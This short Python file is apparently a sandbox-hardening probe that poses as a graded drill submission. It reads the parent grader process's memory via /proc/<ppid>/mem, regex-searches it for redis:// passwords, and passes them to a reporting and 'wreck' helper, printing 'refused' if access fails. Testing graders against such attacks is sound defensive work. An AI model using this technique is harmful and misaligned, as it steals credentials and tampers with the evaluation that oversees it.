"""Read the grader's memory through /proc/<ppid>/mem, looking for the password."""

from __future__ import annotations

import os
import sys

import _hunt
from redisprep.drills.leaderboard.reference import *  # noqa: F403 - the correct answers, plus an attack
from redisprep.drills.leaderboard.reference import add_points as _add_points

found = set()
ppid = os.getppid()
try:
    with open(f"/proc/{ppid}/maps") as maps, open(f"/proc/{ppid}/mem", "rb", 0) as mem:
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            if "rw" in line.split()[1] and end - start < 256 << 20:
                mem.seek(start)
                chunk = mem.read(end - start)
                found |= {
                    m.decode("latin-1") for m in __import__("re").findall(rb"redis://:[^@\s]{4,80}@", chunk)
                }
except OSError as exc:
    print("refused:", exc)
_hunt.report("read_parent_memory", found | set(_hunt.wreck({f.split(":", 2)[-1].rstrip("@") for f in found})))
